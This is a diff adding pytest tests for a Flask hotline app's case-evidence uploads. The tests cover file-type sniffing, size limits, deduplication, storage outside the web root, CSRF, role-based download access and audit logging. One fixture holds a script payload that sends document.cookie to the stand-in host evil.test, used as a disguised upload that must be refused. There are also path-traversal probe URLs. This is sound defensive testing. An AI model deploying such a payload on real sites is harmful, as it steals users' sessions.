@@ -1,0 +1,323 @@
+"""Evidence on a case: uploads checked by content, stored once outside the web root under their
+hash, downloaded as attachments by those who may see the case, MMS media shown as links."""
+
+import hashlib
+import io
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from flask import render_template
+from flask_login import login_user
+from sqlalchemy import func, select
+
+from hotline.extensions import db
+from hotline.models import AuditLog, Department, Evidence, Role, Ticket, TicketEvent
+from tests.intake.test_evidence_filetypes import JPEG, PDF, office_zip
+
+DOCX = office_zip("word/document.xml")
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run in DOS mode"
+HTML = b"<!doctype html><html><body><script>document.location='https://evil.test/?'+document.cookie</script>"
+
+
+@pytest.fixture
+def evidence_dir(tmp_path):
+    return tmp_path / "evidence"
+
+
+@pytest.fixture
+def app(app_factory, evidence_dir):
+    app = app_factory(EVIDENCE_DIR=str(evidence_dir), EVIDENCE_MAX_BYTES=1024 * 1024)
+    with app.app_context():
+        yield app
+
+
+@pytest.fixture
+def staff(make_user):
+    """A staff account that reads the English messages asserted here, whatever the default language."""
+
+    def make(role=Role.OPERATOR, **kwargs):
+        user = make_user(role=role, **kwargs)
+        user.locale = "en"
+        db.session.commit()
+        return user
+
+    return make
+
+
+@pytest.fixture
+def departments(app):
+    made = [Department(code="D01", name="East office"), Department(code="D02", name="West office")]
+    db.session.add_all(made)
+    db.session.commit()
+    return made
+
+
+@pytest.fixture
+def case(create_ticket, departments):
+    return create_ticket(department_id=departments[0].id)
+
+
+@pytest.fixture
+def operator(staff, login):
+    user = staff(username="li")
+    login(user)
+    return user
+
+
+def upload(client, ticket, *files):
+    """POST files [(name, bytes, browser content type)] as the ticket page's form does."""
+    data = {"files": [(io.BytesIO(content), name, ctype) for name, content, ctype in files]}
+    return client.post(f"/evidence/tickets/{ticket.number}", data=data, content_type="multipart/form-data",
+                       follow_redirects=True)
+
+
+class Page(HTMLParser):
+    """Flash messages and the evidence panel's links, as a user reads them."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.flashes, self.links, self._flash, self._link, self._in_evidence = [], [], None, None, 0
+        self.has_evidence_panel = False
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        attrs = dict(attrs)
+        if attrs.get("id") == "evidence":
+            self.has_evidence_panel, self._in_evidence = True, 1
+        elif self._in_evidence and tag == "section":
+            self._in_evidence += 1
+        if tag == "p" and "flash" in (attrs.get("class") or ""):
+            self._flash = [attrs["class"].split()[-1], ""]
+        if tag == "a" and self._in_evidence:
+            self._link = [attrs.get("href"), ""]
+
+    def handle_endtag(self, tag):
+        if tag == "p" and self._flash:
+            self.flashes.append(tuple(self._flash))
+            self._flash = None
+        if tag == "a" and self._link:
+            self.links.append((self._link[0], self._link[1].strip()))
+            self._link = None
+        if tag == "section" and self._in_evidence:
+            self._in_evidence -= 1
+
+    def handle_data(self, data):
+        for open_ in (self._flash, self._link):
+            if open_ is not None:
+                open_[1] += data
+
+
+def evidence_panel(client, app, ticket, user):
+    """The evidence panel as the user sees it on the case page (rendered alone while the ticket
+    page does not include it yet)."""
+    page = Page(client.get(f"/tickets/{ticket.number}").get_data(as_text=True))
+    if page.has_evidence_panel:
+        return page
+    with app.test_request_context():
+        login_user(user)
+        return Page(render_template("intake/_evidence.html", ticket=ticket))
+
+
+def stored_files(evidence_dir):
+    return sorted(p for p in Path(evidence_dir).rglob("*") if p.is_file())
+
+
+# ---- uploads -------------------------------------------------------------------------------
+
+def test_good_files_are_attached_with_the_sniffed_type_and_an_event_each(client, case, operator, evidence_dir):
+    response = upload(client, case, ("发票.jpg", JPEG, "image/jpeg"), ("合同.pdf", PDF, "application/pdf"),
+                      ("chat.docx", DOCX, "application/octet-stream"))
+    page = Page(response.get_data(as_text=True))
+    assert [kind for kind, _text in page.flashes] == ["success"] * 3
+    rows = db.session.scalars(select(Evidence).order_by(Evidence.id)).all()
+    assert [(e.filename, e.content_type, e.size) for e in rows] == [
+        ("发票.jpg", "image/jpeg", len(JPEG)),
+        ("合同.pdf", "application/pdf", len(PDF)),
+        ("chat.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", len(DOCX)),
+    ]
+    assert all(e.uploaded_by_id == operator.id and e.ticket_id == case.id for e in rows)
+    events = db.session.scalars(select(TicketEvent).where(TicketEvent.type == "evidence_added")
+                                .order_by(TicketEvent.id)).all()
+    assert [(ev.to_value, ev.data["size"], ev.data["sha256"], ev.actor_id) for ev in events] == [
+        (e.filename, e.size, hashlib.sha256(c).hexdigest(), operator.id)
+        for e, c in zip(rows, (JPEG, PDF, DOCX), strict=True)]
+    for content in (JPEG, PDF, DOCX):
+        sha = hashlib.sha256(content).hexdigest()
+        assert (evidence_dir / sha[:2] / sha).read_bytes() == content
+
+
+@pytest.mark.parametrize(("name", "content", "ctype", "why"), [
+    ("holiday.jpg", EXE, "image/jpeg", "programs are not accepted"),
+    ("invoice.pdf", EXE, "application/pdf", "programs are not accepted"),
+    ("photo.jpg", HTML, "image/jpeg", "web pages (HTML) are not accepted"),
+    ("scan.pdf", HTML, "application/pdf", "web pages (HTML) are not accepted"),
+    ("empty.jpg", b"", "image/jpeg", "the file is empty"),
+], ids=["exe-as-jpg", "exe-as-pdf", "html-as-jpg", "html-as-pdf", "empty"])
+def test_a_disguised_or_empty_file_is_refused_with_a_clear_message(client, case, operator, evidence_dir,
+                                                                   name, content, ctype, why):
+    page = Page(upload(client, case, (name, content, ctype)).get_data(as_text=True))
+    ((kind, text),) = page.flashes
+    assert kind == "error" and text.startswith(f"{name} was not attached: {why}")
+    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
+    assert stored_files(evidence_dir) == []
+
+
+def test_an_oversized_file_is_refused_and_the_others_are_kept(client, case, operator, evidence_dir):
+    big = JPEG[:-2] + b"\x00" * (1024 * 1024) + b"\xff\xd9"
+    page = Page(upload(client, case, ("big.jpg", big, "image/jpeg"), ("ok.pdf", PDF, "application/pdf"))
+                .get_data(as_text=True))
+    assert page.flashes == [("error", "big.jpg was not attached: larger than 1 MB."), ("success", "ok.pdf attached.")]
+    assert db.session.scalars(select(Evidence.filename)).all() == ["ok.pdf"]
+    assert len(stored_files(evidence_dir)) == 1
+
+
+def test_a_request_over_the_app_limit_is_a_413_with_a_message(app_factory, evidence_dir, staff, departments):
+    app = app_factory(EVIDENCE_DIR=str(evidence_dir), MAX_CONTENT_LENGTH=64 * 1024, EVIDENCE_MAX_BYTES=32 * 1024)
+    client = app.test_client()
+    with app.app_context():
+        from hotline import tickets
+        from hotline.models import Channel
+
+        ticket = tickets.open_ticket(Channel.VOICE)
+        db.session.commit()
+        user = staff(role=Role.OPERATOR)
+        client.post("/login", data={"username": user.username, "password": "password-123"})
+        response = upload(client, ticket, ("huge.pdf", PDF + b"\x00" * 100_000, "application/pdf"))
+        assert response.status_code == 413
+        html = response.get_data(as_text=True)
+        assert "Traceback" not in html
+        assert Page(html).flashes == [("error", "The upload is too large: at most 0.0625 MB at once, "
+                                                "0.03125 MB per file.")]
+        assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
+
+
+def test_the_same_file_twice_is_stored_once(client, case, create_ticket, operator, evidence_dir):
+    other = create_ticket(phone="+8613900139000")
+    upload(client, case, ("a.jpg", JPEG, "image/jpeg"))
+    upload(client, other, ("copy-of-a.jpg", JPEG, "image/jpeg"))
+    page = Page(upload(client, case, ("again.jpg", JPEG, "image/jpeg")).get_data(as_text=True))
+    assert page.flashes == [("error", "again.jpg was not attached: this file is already attached to the case.")]
+    assert db.session.scalar(select(func.count()).select_from(Evidence)) == 2
+    assert len(stored_files(evidence_dir)) == 1
+
+
+def test_files_are_stored_outside_the_web_root_and_not_reachable_by_path(app, client, case, operator, evidence_dir):
+    upload(client, case, ("a.pdf", PDF, "application/pdf"))
+    (path,) = stored_files(evidence_dir)
+    static = Path(app.static_folder).resolve()
+    assert static not in path.resolve().parents
+    sha = path.name
+    for url in (f"/static/{sha}", f"/static/{sha[:2]}/{sha}", f"/evidence/{sha}", f"/evidence/{sha[:2]}/{sha}",
+                f"/static/../instance/evidence/{sha[:2]}/{sha}"):
+        assert client.get(url).status_code == 404
+
+
+def test_without_a_csrf_token_the_upload_is_refused(app_factory, evidence_dir, departments):
+    app = app_factory(EVIDENCE_DIR=str(evidence_dir), WTF_CSRF_ENABLED=True)
+    client = app.test_client()
+    with app.app_context():
+        from hotline import accounts, tickets
+        from hotline.models import Channel
+
+        ticket = tickets.open_ticket(Channel.VOICE)
+        user = accounts.create_user("op", "password-123", Role.OPERATOR)
+        db.session.commit()
+        with client.session_transaction() as sess:
+            sess["_user_id"], sess["_fresh"] = str(user.id), True
+        response = upload(client, ticket, ("a.pdf", PDF, "application/pdf"))
+        assert response.status_code == 400
+        assert db.session.scalar(select(func.count()).select_from(Evidence)) == 0
+
+
+def test_no_file_chosen_says_so(client, case, operator):
+    response = client.post(f"/evidence/tickets/{case.number}", data={}, follow_redirects=True)
+    assert Page(response.get_data(as_text=True)).flashes == [("error", "Choose one or more files to attach.")]
+
+
+# ---- who may upload and download ----------------------------------------------------------
+
+@pytest.fixture
+def attached(client, case, operator):
+    upload(client, case, ("合同.pdf", PDF, "application/pdf"))
+    client.post("/logout")
+    return db.session.scalar(select(Evidence))
+
+
+def test_a_download_is_an_attachment_of_the_sniffed_type_and_audited(client, login, staff, attached):
+    supervisor = staff(role=Role.SUPERVISOR)
+    login(supervisor)
+    response = client.get(f"/evidence/{attached.id}")
+    assert response.status_code == 200
+    assert response.data == PDF
+    assert response.mimetype == "application/pdf"
+    assert response.headers["Content-Disposition"].startswith("attachment;")
+    assert "filename*=UTF-8''%E5%90%88%E5%90%8C.pdf" in response.headers["Content-Disposition"]
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in response.headers["Content-Security-Policy"]
+    audit = db.session.scalar(select(AuditLog).where(AuditLog.action == "download_evidence"))
+    assert (audit.user_id, audit.target_id) == (supervisor.id, attached.ticket.number)
+
+
+def test_a_department_user_downloads_their_own_departments_evidence_only(client, login, staff, attached,
+                                                                         departments):
+    login(staff(role=Role.DEPARTMENT, department=departments[1]))
+    assert client.get(f"/evidence/{attached.id}").status_code == 404
+    assert client.get("/evidence/99999").status_code == 404
+    client.post("/logout")
+    login(staff(role=Role.DEPARTMENT, department=departments[0]))
+    assert client.get(f"/evidence/{attached.id}").data == PDF
+
+
+def test_a_department_user_cannot_upload_to_another_departments_case(client, login, staff, case, departments):
+    login(staff(role=Role.DEPARTMENT, department=departments[1]))
+    response = upload(client, case, ("a.pdf", PDF, "application/pdf"))
+    assert response.status_code == 404
+    client.post("/logout")
+    login(staff(role=Role.DEPARTMENT, department=departments[0]))
+    assert Page(upload(client, case, ("a.pdf", PDF, "application/pdf")).get_data(as_text=True)).flashes == [
+        ("success", "a.pdf attached.")]
+
+
+def test_signed_out_users_are_sent_to_sign_in_and_admins_refused(client, login, staff, attached):
+    response = client.get(f"/evidence/{attached.id}")
+    assert response.status_code == 302 and "/login" in response.headers["Location"]
+    response = client.post(f"/evidence/tickets/{attached.ticket.number}", data={})
+    assert response.status_code == 302 and "/login" in response.headers["Location"]
+    login(staff(role=Role.ADMIN))
+    assert client.get(f"/evidence/{attached.id}").status_code == 403
+
+
+def test_a_missing_stored_file_is_a_404_not_an_error(client, login, staff, attached, evidence_dir):
+    for path in stored_files(evidence_dir):
+        path.unlink()
+    login(staff(role=Role.OPERATOR))
+    assert client.get(f"/evidence/{attached.id}").status_code == 404
+
+
+# ---- the panel on the case page -----------------------------------------------------------
+
+def test_the_panel_lists_files_and_mms_links(app, client, login, staff, twilio_post, operator):
+    twilio_post("/twilio/sms", {
+        "MessageSid": "SM" + "a" * 32, "AccountSid": "AC" + "0" * 32, "From": "+8613800138000",
+        "To": "+8610012315", "Body": "发票照片", "NumMedia": "2",
+        "MediaUrl0": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1",
+        "MediaContentType0": "image/jpeg",
+        "MediaUrl1": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME2",
+        "MediaContentType1": "application/pdf",
+    })
+    ticket = db.session.scalar(select(Ticket))
+    upload(client, ticket, ("合同.pdf", PDF, "application/pdf"))
+    item = db.session.scalar(select(Evidence))
+    page = evidence_panel(client, app, ticket, operator)
+    assert page.links == [
+        (f"/evidence/{item.id}", "合同.pdf"),
+        ("https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1", "JPEG"),
+        ("https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME2", "PDF"),
+    ]
+
+
+def test_the_panel_is_not_shown_to_admins(app, client, login, staff, case):
+    admin = staff(role=Role.ADMIN)
+    login(admin)
+    assert evidence_panel(client, app, case, admin).has_evidence_panel is False
